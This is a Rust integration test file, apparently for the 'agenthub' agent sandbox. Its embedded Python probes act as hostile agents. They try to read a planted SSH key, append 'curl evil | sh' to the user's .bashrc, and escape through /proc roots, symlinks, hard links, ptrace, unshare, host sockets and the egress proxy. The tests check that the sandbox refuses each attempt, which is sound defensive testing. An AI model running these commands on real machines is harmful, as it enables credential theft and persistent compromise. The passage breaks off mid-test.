//! The hostile agent suite (issue 16): real agents run by the real `agenthub` binary try to
//! reach what the sandbox closes. Each attack must be refused while the rest of the call
//! works (the call still answers with its JSON result, reporting what happened), and each
//! assertion names the layer that stopped it: the namespaces (user, PID, mount, IPC,
//! network), Landlock, seccomp, or the egress proxy.
//!
//! The user's `HOME` is a temporary directory with planted secrets, and the agenthub home is
//! `$HOME/.agenthub`, as it is by default. Both live outside `/tmp` (see `test_dir`;
//! `scripts/test-sandbox-unprivileged` sets `AH_SANDBOX_TEST_DIR`): under `/tmp` the sandbox's
//! private `/tmp` would hide them before Landlock is reached, and the suite means to test
//! Landlock. Every layer must be there (`require_layers`): a
//! machine without one fails the suite instead of skipping it.
//!
//! Every wait is bounded, and every process a test starts (the binary, a victim, a daemon the
//! agent left) is killed by a guard also when an assertion fails.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, ExitStatus, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use agenthub_core::ParamType;
use agenthub_testkit::{Behaviour, TestAgent, TestMethod, survivors};
use serde_json::{Value as Json, json};

/// How long one call may take, an environment build included.
const CALL_LIMIT: Duration = Duration::from_secs(180);
/// How long what a killed `agenthub` left may take to die.
const DEATH_LIMIT: Duration = Duration::from_secs(10);

const LANDLOCK: &str = "Landlock";
/// What hides the user's home: an empty tmpfs over it in the sandbox's mount namespace,
/// with only what the call needs bound back (so a path into the rest does not exist).
const HIDDEN: &str = "the mount namespace (the user's home covered)";
const SECCOMP: &str = "seccomp";
const PID_NS: &str = "the PID namespace";
const NET_NS: &str = "the network namespace";
const PROXY: &str = "the egress proxy";

const SECRET_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- planted by the hostile suite\n";
const BASHRC: &str = "# the user's own .bashrc\n";
const CONFIG: &str = "runtime:\n  max_execution_time: 170\n";

/// Fails (never skips) when this machine lacks a layer: the suite is what proves them.
fn require_layers() -> agenthub_process::sandbox::Layers {
    let layers = agenthub_process::sandbox::probe();
    if let Some(missing) = layers.missing() {
        panic!("the sandbox suite needs every layer, and this machine lacks one: {missing}");
    }
    layers
}

/// Where the suite's temporary directories go: outside `/tmp` (see the module docs).
/// `AH_SANDBOX_TEST_DIR` when set, else the first of `CARGO_TARGET_TMPDIR`, the temporary
/// directory and `/var/tmp` that is not under `/tmp` (a checkout may be).
fn test_dir() -> PathBuf {
    let under_tmp = |dir: &Path| dir.canonicalize().is_ok_and(|d| d.starts_with("/tmp"));
    let dir = match std::env::var_os("AH_SANDBOX_TEST_DIR") {
        Some(dir) => PathBuf::from(dir),
        None => [PathBuf::from(env!("CARGO_TARGET_TMPDIR")), std::env::temp_dir(), PathBuf::from("/var/tmp")]
            .into_iter()
            .find(|dir| std::fs::create_dir_all(dir).is_ok() && !under_tmp(dir))
            .expect("a temporary directory outside /tmp (set AH_SANDBOX_TEST_DIR)"),
    };
    std::fs::create_dir_all(&dir).unwrap();
    let dir = dir.canonicalize().unwrap();
    assert!(
        !dir.starts_with("/tmp"),
        "{}: under /tmp the sandbox's private /tmp (namespaces) hides the planted files before \
         Landlock is reached; set AH_SANDBOX_TEST_DIR to a directory elsewhere",
        dir.display()
    );
    dir
}

/// A user's machine in miniature: a `HOME` with a key, a `.bashrc` and an agenthub home
/// (`$HOME/.agenthub`, with a config.yaml and agents).
struct Scene {
    _root: tempfile::TempDir,
    /// The temporary directory everything is in (canonical).
    top: PathBuf,
    /// The user's `HOME`.
    home: PathBuf,
    /// `AGENTHUB_HOME`.
    agenthub: PathBuf,
}

impl Scene {
    fn new() -> Self {
        require_layers();
        let root = tempfile::Builder::new().prefix("agenthub-hostile-").tempdir_in(test_dir()).unwrap();
        let top = root.path().canonicalize().unwrap();
        let home = top.join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_ed25519"), SECRET_KEY).unwrap();
        std::fs::write(home.join(".bashrc"), BASHRC).unwrap();
        let agenthub = home.join(".agenthub");
        std::fs::create_dir_all(agenthub.join("agents")).unwrap();
        std::fs::write(agenthub.join("config.yaml"), CONFIG).unwrap();
        Self { _root: root, top, home, agenthub }
    }

    fn key(&self) -> PathBuf {
        self.home.join(".ssh/id_ed25519")
    }

    /// Writes `agent` where an installed agent lives; returns its directory.
    fn install(&self, agent: &TestAgent) -> PathBuf {
        let dir = self.agenthub.join("agents").join(agent.namespace()).join(agent.name());
        agent.write_to(&dir).unwrap();
        dir
    }

    /// Writes `agent` as a directory agent (run by its path) at `<top>/<name>`.
    fn directory_agent(&self, agent: &TestAgent) -> PathBuf {
        let dir = self.top.join(agent.name());
        agent.write_to(&dir).unwrap();
        dir
    }

    /// `agenthub ARGS` as the user of this scene runs it.
    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(assert_cmd::cargo::cargo_bin("agenthub"));
        cmd.args(args)
            .env("HOME", &self.home)
            .env("AGENTHUB_HOME", &self.agenthub)
            .env("NO_COLOR", "1")
            .env("AGENTHUB_LOG_LEVEL", "WARN")
            .env("AGENTHUB_REGISTRY", super::NO_REGISTRY)
            .env_remove("AGENTHUB_SANDBOX")
            .current_dir(&self.top)
            .stdin(Stdio::null());
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        finish(&mut self.command(args), CALL_LIMIT)
    }

    /// Runs a call that must succeed; returns its result.
    fn result(&self, args: &[&str]) -> Json {
        let out = self.run(args);
        let v = json_of(&out);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {v}\nstderr: {}", text(&out.stderr));
        v["result"].clone()
    }
}

/// Kills and reaps a child when dropped (a test that fails leaves nothing running).
struct ChildGuard(Child);

impl ChildGuard {
    fn spawn(cmd: &mut Command) -> Self {
        Self(cmd.spawn().unwrap())
    }

    fn id(&self) -> u32 {
        self.0.id()
    }

    fn running(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }

    /// SIGKILL, as a crash or the OOM killer would.
    fn kill(&mut self) -> ExitStatus {
        let _ = self.0.kill();
        self.0.wait().unwrap()
    }
}

impl Drop for ChildGuard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Kills every process whose command line carries `token` when dropped.
struct Daemons(String);

impl Drop for Daemons {
    fn drop(&mut self) {
        for pid in survivors(&self.0) {
            // SAFETY: kill has no memory effects.
            unsafe { libc::kill(pid as i32, libc::SIGKILL) };
        }
    }
}

/// Runs `cmd` to its end within `limit`, reading its output as it comes.
fn finish(cmd: &mut Command, limit: Duration) -> Output {
    let mut child = ChildGuard::spawn(cmd.stdout(Stdio::piped()).stderr(Stdio::piped()));
    let readers = [child.0.stdout.take().map(reader), child.0.stderr.take().map(reader)];
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.0.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > limit {
            child.kill();
            panic!("{cmd:?} still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let [stdout, stderr] = readers.map(|r| r.map(|h| h.join().unwrap()).unwrap_or_default());
    Output { status, stdout, stderr }
}

fn reader(mut from: impl Read + Send + 'static) -> std::thread::JoinHandle<Vec<u8>> {
    std::thread::spawn(move || {
        let mut all = Vec::new();
        let _ = from.read_to_end(&mut all);
        all
    })
}

/// Waits up to `limit` for `done`.
fn wait_until(what: &str, limit: Duration, mut done: impl FnMut() -> bool) {
    let started = Instant::now();
    while !done() {
        assert!(started.elapsed() < limit, "{what} did not happen within {limit:?}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn json_of(out: &Output) -> Json {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("stdout is not JSON ({e}): {:?} / {:?}", text(&out.stdout), text(&out.stderr))
    })
}

/// What every probe starts with: `attempt(name, fn)` records `{"allowed": value}` or
/// `{"denied": exception, "errno": n, "message": ...}` under `results[name]`, so one call
/// reports every attack and still answers.
const PRELUDE: &str = r#"
import ctypes, socket
results = {}
def attempt(name, fn):
    try:
        results[name] = {"allowed": fn()}
    except Exception as e:
        results[name] = {"denied": type(e).__name__, "errno": getattr(e, "errno", None), "message": str(e)[:300]}
libc = ctypes.CDLL(None, use_errno=True)
def checked(ret):
    if ret != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
"#;

/// A probe: [`PRELUDE`], then `body` with each `@NAME@` replaced by the value as a Python
/// literal, then the results printed as the call's result.
fn probe(body: &str, values: &[(&str, Json)]) -> Behaviour {
    let mut code = format!("{PRELUDE}{body}\nprint(json.dumps({{\"result\": results}}))\n");
    for (name, value) in values {
        code = code.replace(&format!("@{name}@"), &value.to_string());
    }
    assert!(!code.contains("@\""), "a value was left out: {code}");
    Behaviour::Script(code)
}

fn path_value(path: &Path) -> Json {
    json!(path.to_str().unwrap())
}

/// `results[attack]` was refused with `errno`, by `layer`.
#[track_caller]
fn hidden(got: &Json, attack: &str, errno: i32) {
    let r = &got[attack];
    assert!(
        r.get("allowed").is_none()
            && (r["errno"] == libc::ENOENT || r["errno"] == libc::EXDEV || r["errno"] == errno),
        "{attack}: {HIDDEN} (ENOENT, or EXDEV across its mounts) or {LANDLOCK} (errno {errno}) should have \
         refused it; the agent got {r}"
    );
}

#[track_caller]
fn refused(got: &Json, attack: &str, errno: i32, layer: &str) {
    let r = &got[attack];
    assert!(
        r.get("allowed").is_none() && r["errno"] == errno,
        "{attack}: {layer} should have refused it with {} (errno {errno}); the agent got {r}",
        std::io::Error::from_raw_os_error(errno)
    );
}

/// The value of `results[what]`, which must have been allowed.
#[track_caller]
fn allowed<'a>(got: &'a Json, what: &str) -> &'a Json {
    got[what].get("allowed").unwrap_or_else(|| panic!("{what} should have worked: {}", got[what]))
}

const FILES: &str = r#"
key, user_home, other, own, config = @KEY@, @USER_HOME@, @OTHER@, @OWN@, @CONFIG@
home, tmp = os.environ["HOME"], os.environ["TMPDIR"]
attempt("read_key", lambda: open(key).read())
attempt("list_home", lambda: os.listdir(user_home))
attempt("write_bashrc", lambda: open(user_home + "/.bashrc", "a").write("curl evil | sh\n"))
attempt("read_other_agent", lambda: open(other + "/agent.py").read())
attempt("write_other_agent", lambda: open(other + "/agent.py", "a").write("evil()\n"))
attempt("read_config", lambda: open(config).read())
attempt("write_config", lambda: open(config, "a").write("grants: {}\n"))
attempt("write_own_agent", lambda: open(own + "/agent.py", "a").write("evil()\n"))
attempt("read_own_agent", lambda: len(open(own + "/agent.py").read()))
def cache():
    path = os.path.join(home, ".cache", "sdk", "token.json")
    before = open(path).read() if os.path.exists(path) else None
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(json.dumps({"call": params["n"]}))
    return before
attempt("home_cache", cache)
def scratch():
    path = os.path.join(tmp, "scratch")
    before = os.path.exists(path)
    with open(path, "w") as f:
        f.write("x")
    return before
attempt("tmpdir", scratch)
results["home"] = home
"#;

const PEEK: &str = r#"
attempt("read_key", lambda: open(@KEY@).read())
attempt("list_home", lambda: sorted(os.listdir(@USER_HOME@)))
"#;

/// `test/probe` (the attacker, with `files` and `peek`) and `test/victim` (another
/// installed agent).
fn probe_agents(scene: &Scene) -> (PathBuf, PathBuf) {
    let own = scene.agenthub.join("agents/test/probe");
    let other = scene.install(
        &TestAgent::new("victim").method(TestMethod::new("ping").behaves(Behaviour::Return(json!("pong")))),
    );
    let values = [
        ("KEY", path_value(&scene.key())),
        ("USER_HOME", path_value(&scene.home)),
        ("OTHER", path_value(&other)),
        ("OWN", path_value(&own)),
        ("CONFIG", path_value(&scene.agenthub.join("config.yaml"))),
    ];
    let own = scene.install(
        &TestAgent::new("probe")
            .method(
                TestMethod::new("files").param("n", ParamType::Integer, true).behaves(probe(FILES, &values)),
            )
            .method(TestMethod::new("peek").behaves(probe(PEEK, &values))),
    );
    (own, other)
}

#[test]
fn a_hostile_agent_reads_and_writes_nothing_of_the_users_but_its_own_home_and_tmpdir() {
    let scene = Scene::new();
    let (own, other) = probe_agents(&scene);
    let own_code = std::fs::read_to_string(own.join("agent.py")).unwrap();
    let other_code = std::fs::read_to_string(other.join("agent.py")).unwrap();

    let first = scene.result(&["exec", "test/probe", "files", "n=1", "--json"]);
    for attack in [
        "read_key",
        "list_home",
        "write_bashrc",
        "read_other_agent",
        "write_other_agent",
        "read_config",
        "write_config",
    ] {
        hidden(&first, attack, libc::EACCES);
    }
    refused(&first, "write_own_agent", libc::EACCES, LANDLOCK);
    assert_eq!(allowed(&first, "read_own_agent"), own_code.len(), "its own directory is readable");
    assert_eq!(allowed(&first, "home_cache"), &Json::Null, "a first call finds an empty home");
    assert_eq!(allowed(&first, "tmpdir"), false);

    // The agent's home is its own directory under the agenthub home, and it is kept.
    let home = PathBuf::from(first["home"].as_str().unwrap());
    assert!(home.starts_with(scene.agenthub.join("sandbox/home")), "{}", home.display());
    assert_eq!(std::fs::read_to_string(home.join(".cache/sdk/token.json")).unwrap(), r#"{"call": 1}"#);
    let second = scene.result(&["exec", "test/probe", "files", "n=2", "--json"]);
    assert_eq!(allowed(&second, "home_cache"), r#"{"call": 1}"#, "HOME persists between calls (SDK caches)");
    assert_eq!(allowed(&second, "tmpdir"), false, "TMPDIR is private to each call (the mount namespace)");
    assert_eq!(second["home"], first["home"]);

    // Nothing changed on the host (Landlock refused every write).
    assert_eq!(std::fs::read_to_string(scene.home.join(".bashrc")).unwrap(), BASHRC, "{LANDLOCK}");
    assert_eq!(std::fs::read_to_string(own.join("agent.py")).unwrap(), own_code, "{LANDLOCK}");
    assert_eq!(std::fs::read_to_string(other.join("agent.py")).unwrap(), other_code, "{LANDLOCK}");
    assert_eq!(std::fs::read_to_string(scene.agenthub.join("config.yaml")).unwrap(), CONFIG, "{LANDLOCK}");
}

const ESCAPES: &str = r#"
key, user_home, bashrc = @KEY@, @USER_HOME@, @BASHRC@
home = os.environ["HOME"]
attempt("proc_self_root", lambda: open("/proc/self/root" + key).read())
attempt("proc_1_root", lambda: open("/proc/1/root" + key).read())
def through(link, target):
    if not os.path.islink(link):
        os.symlink(target, link)
    return link
attempt("symlink_to_key", lambda: open(through(os.path.join(home, "key"), key)).read())
attempt("symlink_to_home", lambda: os.listdir(through(os.path.join(home, "user-home"), user_home)))
attempt("hardlink_to_key", lambda: os.link(key, os.path.join(home, "key-hardlink")))
attempt("rename_bashrc", lambda: os.rename(bashrc, os.path.join(home, "bashrc")))
attempt("write_own_home", lambda: open(os.path.join(home, "still-works"), "w").write("yes"))
"#;

#[test]
fn escapes_through_proc_root_symlinks_and_hard_links_reach_nothing() {
    let scene = Scene::new();
    scene.install(&TestAgent::new("escape").method(TestMethod::new("run").behaves(probe(
        ESCAPES,
        &[
            ("KEY", path_value(&scene.key())),
            ("USER_HOME", path_value(&scene.home)),
            ("BASHRC", path_value(&scene.home.join(".bashrc"))),
        ],
    ))));
    // Twice: the links the first call left in its home are tried again by the second.
    for call in 0..2 {
        let got = scene.result(&["exec", "test/escape", "run", "--json"]);
        hidden(&got, "proc_self_root", libc::EACCES);
        // procfs's ptrace check on the sandbox's init, or Landlock, or the covered home.
        hidden(&got, "proc_1_root", libc::EACCES);
        hidden(&got, "symlink_to_key", libc::EACCES);
        refused(&got, "symlink_to_home", libc::EACCES, LANDLOCK);
        // Landlock refuses a link out of a directory the domain may not REFER from.
        hidden(&got, "hardlink_to_key", libc::EXDEV);
        hidden(&got, "rename_bashrc", libc::EACCES);
        assert_eq!(allowed(&got, "write_own_home"), 3, "call {call}: its own home is writable");
    }
    assert_eq!(std::fs::read_to_string(scene.home.join(".bashrc")).unwrap(), BASHRC);
    assert_eq!(std::fs::read_to_string(scene.key()).unwrap(), SECRET_KEY);
    let homes = scene.agenthub.join("sandbox/home");
    let linked: Vec<_> = std::fs::read_dir(&homes)
        .unwrap()
        .flatten()
        .filter(|home| home.path().join("key-hardlink").exists())
        .collect();
    assert!(linked.is_empty(), "a hard link to the key was made in {linked:?}");
}

const PROCESSES: &str = r#"
results["me"] = os.getpid()
results["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
attempt("signal_test", lambda: os.kill(@TEST_PID@, 0))
attempt("kill_victim", lambda: os.kill(@VICTIM@, signal.SIGKILL))
attempt("signal_init", lambda: os.kill(1, 0))
child = os.fork()
if child == 0:
    time.sleep(30)
    os._exit(0)
try:
    attempt("ptrace_own_child", lambda: checked(libc.ptrace(16, child, 0, 0)))
    attempt("ptrace_outside", lambda: checked(libc.ptrace(16, @VICTIM@, 0, 0)))
finally:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
attempt("unshare_user", lambda: checked(libc.unshare(0x10000000)))
attempt("unshare_mount", lambda: checked(libc.unshare(0x00020000)))
def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(b"\0" + @ABSTRACT@.encode())
    finally:
        s.close()
attempt("abstract_socket", abstract)
"#;

#[test]
fn a_hostile_agent_sees_signals_traces_and_reaches_no_process_outside() {
    let scene = Scene::new();
    let layers = require_layers();
    let mut victim = ChildGuard::spawn(Command::new("sleep").arg("300").stdin(Stdio::null()));
    // A host service on an abstract unix socket.
    let name = format!("agenthub-hostile-{}", std::process::id());
    let service = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
    };
    service.set_nonblocking(true).unwrap();
    scene.install(&TestAgent::new("procs").method(TestMethod::new("run").behaves(probe(
        PROCESSES,
        &[("TEST_PID", json!(std::process::id())), ("VICTIM", json!(victim.id())), ("ABSTRACT", json!(name))],
    ))));
    let got = scene.result(&["exec", "test/procs", "run", "--json"]);

    assert_eq!(got["me"], 2, "{PID_NS}: the agent is PID 2, under the sandbox's init: {got}");
    assert_eq!(got["pids"], json!([1, 2]), "{PID_NS}: /proc shows the sandbox's own processes only");
    refused(&got, "signal_test", libc::ESRCH, PID_NS);
    refused(&got, "kill_victim", libc::ESRCH, PID_NS);
    assert!(victim.running(), "{PID_NS}: the agent killed a process outside its sandbox");
    if layers.landlock_abi.is_some_and(|abi| abi >= 6) {
        refused(&got, "signal_init", libc::EPERM, "Landlock's signal scope (ABI 6)");
    }
    refused(&got, "ptrace_own_child", libc::EPERM, SECCOMP);
    refused(&got, "ptrace_outside", libc::EPERM, SECCOMP);
    refused(&got, "unshare_user", libc::EPERM, SECCOMP);
    refused(&got, "unshare_mount", libc::EPERM, SECCOMP);
    // Abstract names are per network namespace: the host's is not even found.
    refused(&got, "abstract_socket", libc::ECONNREFUSED, NET_NS);
    assert!(
        matches!(service.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "{NET_NS}: the host's abstract socket was reached"
    );
}

const UNIX_SOCKET: &str = r#"
def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(@PATH@)
        return s.recv(100).decode()
    finally:
        s.close()
attempt("run_socket", connect)
attempt("list_run", lambda: sorted(os.listdir("/run")))
"#;

/// A unix socket file that is removed when dropped.
struct SocketFile(PathBuf);

impl Drop for SocketFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn a_host_service_on_a_unix_socket_under_run_is_out_of_sight() {
    let scene = Scene::new();
    // Where Docker's, D-Bus's and the user's runtime sockets live; /run/lock is writable by
    // every user on Debian-like systems, so the test plants one as root and as nobody.
    let name = format!("agenthub-hostile-{}.sock", std::process::id());
    let (listener, path) = ["/run/lock", "/run"]
        .iter()
        .map(|dir| Path::new(dir).join(&name))
        .find_map(|path| std::os::unix::net::UnixListener::bind(&path).ok().map(|l| (l, path)))
        .expect("a unix socket can be made under /run (/run/lock or /run writable)");
    let _file = SocketFile(path.clone());
    listener.set_nonblocking(true).unwrap();
    scene.install(
        &TestAgent::new("sock")
            .method(TestMethod::new("run").behaves(probe(UNIX_SOCKET, &[("PATH", path_value(&path))]))),
    );
    let got = scene.result(&["exec", "test/sock", "run", "--json"]);
    // Landlock does not guard connecting to a socket by its path: the mount namespace's
    // empty /run is what keeps it out of reach.
    refused(&got, "run_socket", libc::ENOENT, "the mount namespace (an empty /run)");
    refused(&got, "list_run", libc::EACCES, LANDLOCK);
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the host's socket under /run was reached"
    );
}

/// A loopback service on the host: answers every connection with `pong-<name>` and counts
/// them, until dropped (or for two minutes at most).
struct Service {
    port: u16,
    hits: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Service {
    fn start(name: &str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let answer = format!("pong-{name}");
        let (count, stopped) = (Arc::clone(&hits), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            let started = Instant::now();
            while !stopped.load(Ordering::SeqCst) && started.elapsed() < Duration::from_secs(120) {
                match listener.accept() {
                    Ok((mut conn, _)) => {
                        count.fetch_add(1, Ordering::SeqCst);
                        let _ = conn.set_nonblocking(false);
                        let _ = conn.write_all(answer.as_bytes());
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Self { port, hits, stop, thread: Some(thread) }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

const NETWORK: &str = r#"
def ask(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        return s.recv(100).decode()
    finally:
        s.close()
def through_proxy(target):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    try:
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
        data = b""
        while len(data) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        return data.decode(errors="replace")
    finally:
        s.close()
def routes():
    out = []
    for table in ("/proc/net/route", "/proc/net/ipv6_route"):
        for line in open(table).read().splitlines():
            fields = line.split()
            if fields and fields[0] != "Iface" and fields[-1] != "lo":
                out.append(line)
    return out
ungranted, declared, granted = @UNGRANTED@, @DECLARED@, @GRANTED@
if params.get("mode") == "default":
    attempt("direct_ungranted", lambda: ask(ungranted))
    attempt("proxy_ungranted_address", lambda: through_proxy("127.0.0.1:%d" % ungranted))
    attempt("proxy_ungranted_name", lambda: through_proxy("localhost:%d" % ungranted))
    attempt("declared", lambda: ask(declared))
    attempt("granted", lambda: ask(granted))
    # Around the proxy: only tried when there is no route out (a broken sandbox must not send
    # a packet to a public address).
    results["routes"] = routes()
    if not results["routes"]:
        attempt("direct_public", lambda: socket.create_connection(("1.1.1.1", 443), timeout=5).close())
else:
    attempt("proxy_outside_list", lambda: through_proxy("example.com:443"))
    attempt("declared", lambda: ask(declared))
    attempt("direct_ungranted", lambda: ask(ungranted))
results["proxy"] = os.environ.get("HTTPS_PROXY")
"#;

#[test]
fn the_network_is_what_was_declared_and_granted_through_bridges_and_the_proxy() {
    let scene = Scene::new();
    let (ungranted, declared, granted) =
        (Service::start("ungranted"), Service::start("declared"), Service::start("granted"));
    let ports = [
        ("UNGRANTED", json!(ungranted.port)),
        ("DECLARED", json!(declared.port)),
        ("GRANTED", json!(granted.port)),
    ];
    let dir = scene.directory_agent(
        &TestAgent::new("net")
            .method(
                TestMethod::new("probe")
                    .param("mode", ParamType::String, true)
                    .behaves(probe(NETWORK, &ports)),
            )
            .method(TestMethod::new("fetch").behaves(Behaviour::Script(
                "import urllib.request\nurllib.request.urlopen('http://example.com/', timeout=10).read()\n".into(),
            ))),
    );
    with_permissions(&dir, json!({"network": [format!("localhost:{}", declared.port)]}));
    let dir = dir.to_str().unwrap();
    let allow_granted = format!("localhost:{}", granted.port);

    let got = scene.result(&["exec", dir, "probe", "mode=default", "--allow-net", &allow_granted, "--json"]);
    assert_eq!(got["proxy"], "http://127.0.0.1:3128", "{got}");
    // Not granted: nothing listens at that port on the sandbox's own loopback.
    refused(&got, "direct_ungranted", libc::ECONNREFUSED, NET_NS);
    let port = ungranted.port;
    for (attempt, target) in [
        ("proxy_ungranted_address", format!("127.0.0.1:{port}")),
        ("proxy_ungranted_name", format!("localhost:{port}")),
    ] {
        let answer = allowed(&got, attempt).as_str().unwrap();
        assert!(
            answer.starts_with("HTTP/1.1 403 ")
                && answer.contains(&format!("grant it with --allow-net {target}")),
            "{attempt}: {PROXY} should have answered 403 naming the grant: {answer:?}"
        );
    }
    assert_eq!(ungranted.hits(), 0, "{NET_NS} and {PROXY}: the ungranted service was reached");
    // Declared in agent.yaml, and granted with --allow-net: both bridged into the namespace.
    assert_eq!(allowed(&got, "declared"), "pong-declared", "{got}");
    assert_eq!(allowed(&got, "granted"), "pong-granted", "{got}");
    assert_eq!(got["routes"], json!([]), "{NET_NS}: the sandbox has a route out: {got}");
    refused(&got, "direct_public", libc::ENETUNREACH, NET_NS);

    // Strict, with a list: a host by name outside it is refused without being resolved.
    let strict = [
        "exec",
        dir,
        "probe",
        "mode=strict",
        "--sandbox",
        "strict",
        "--allow-net",
        "api.example.org",
        "--json",
    ];
    let got = scene.result(&strict);
    let answer = allowed(&got, "proxy_outside_list").as_str().unwrap();
    assert!(
        answer.starts_with("HTTP/1.1 403 ")
            && answer.contains("not in this agent's network permissions")
            && answer.contains("grant it with --allow-net example.com"),
        "{PROXY} should have refused example.com:443 naming the grant: {answer:?}"
    );
    assert_eq!(allowed(&got, "declared"), "pong-declared", "strict keeps what was declared: {got}");
    refused(&got, "direct_ungranted", libc::ECONNREFUSED, NET_NS);
    assert_eq!(ungranted.hits(), 0);

    // A call that fails on the proxy's refusal says which grant would allow it.
    let out =
        scene.run(&["exec", dir, "fetch", "--sandbox", "strict", "--allow-net", "api.example.org", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let v = json_of(&out);
    assert_eq!(v["error_type"], "ExecutionError", "{v}");
    let suggestion = v["suggestion"].as_str().unwrap_or_default();
    assert!(
        suggestion.contains("The sandbox refused example.com:80")
            && suggestion.contains("--allow-net example.com"),
        "{PROXY}'s refusal should be explained with the grant: {v}"
    );
}

/// Adds `permissions` to the manifest an agent was written with (JSON, which YAML reads).
fn with_permissions(dir: &Path, permissions: Json) {
    let path = dir.join("agent.yaml");
    let mut doc: Json = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    doc["permissions"] = permissions;
    std::fs::write(&path, serde_json::to_string_pretty(&doc).unwrap()).unwrap();
}

#[test]
fn strict_mode_shows_only_the_declared_and_granted_variables() {
    let scene = Scene::new();
    let names = ["AH_UNDECLARED", "AH_DECLARED", "AH_GRANTED"].map(String::from).to_vec();
    // The sandbox's init is a fork of agenthub: its memory holds agenthub's whole environment.
    let around = "def environ():\n    data = open('/proc/1/environ', 'rb').read()\n    return b'secret-u' in data\n\
                  attempt('init_environ', environ)\n\
                  attempt('init_memory', lambda: os.close(os.open('/proc/1/mem', os.O_RDONLY)))\n\
                  attempt('own_environ', lambda: b'secret-u' in open('/proc/self/environ', 'rb').read())\n";
    let src = scene.directory_agent(
        &TestAgent::new("env")
            .method(TestMethod::new("show").behaves(Behaviour::EnvVars(names)))
            .method(TestMethod::new("around").behaves(probe(around, &[]))),
    );
    with_permissions(&src, json!({"env": ["AH_DECLARED"]}));
    let out = scene.run(&["install", src.to_str().unwrap(), "--no-env"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let call = |method: &str, extra: &[&str]| {
        let mut args = vec!["exec", "local/env", method, "--json"];
        args.extend_from_slice(extra);
        let mut cmd = scene.command(&args);
        cmd.env("AH_UNDECLARED", "secret-u").env("AH_DECLARED", "d").env("AH_GRANTED", "g");
        let out = finish(&mut cmd, CALL_LIMIT);
        assert_eq!(out.status.code(), Some(0), "{extra:?}: {}", text(&out.stderr));
        json_of(&out)["result"].clone()
    };
    let show = |extra: &[&str]| call("show", extra);
    assert_eq!(
        show(&[]),
        json!({"AH_UNDECLARED": "secret-u", "AH_DECLARED": "d", "AH_GRANTED": "g"}),
        "default mode passes the caller's environment"
    );
    assert_eq!(
        show(&["--sandbox", "strict"]),
        json!({"AH_UNDECLARED": null, "AH_DECLARED": "d", "AH_GRANTED": null}),
        "strict mode: only the declared variable (the sandbox's environment)"
    );
    assert_eq!(
        show(&["--sandbox", "strict", "--allow-env", "AH_GRANTED"]),
        json!({"AH_UNDECLARED": null, "AH_DECLARED": "d", "AH_GRANTED": "g"}),
        "strict mode: --allow-env adds the granted variable"
    );
    // Nor around the environment: the init's is closed to the agent.
    let got = call("around", &["--sandbox", "strict"]);
    let layer = "Landlock's ptrace scope and the capability check (the init is outside the agent's domain)";
    refused(&got, "init_environ", libc::EACCES, layer);
    refused(&got, "init_memory", libc::EACCES, layer);
    assert_eq!(allowed(&got, "own_environ"), false, "strict mode: the agent's own environment");
}

#[test]
fn an_agent_yaml_edited_after_install_gets_no_more_also_when_named_by_its_path() {
    let scene = Scene::new();
    let service = Service::start("local-model");
    let src = scene.directory_agent(&TestAgent::new("later").method(TestMethod::new("run").behaves(probe(
        "attempt('reach', lambda: socket.create_connection(('127.0.0.1', @PORT@), timeout=5).recv(100).decode())\n",
        &[("PORT", json!(service.port))],
    ))));
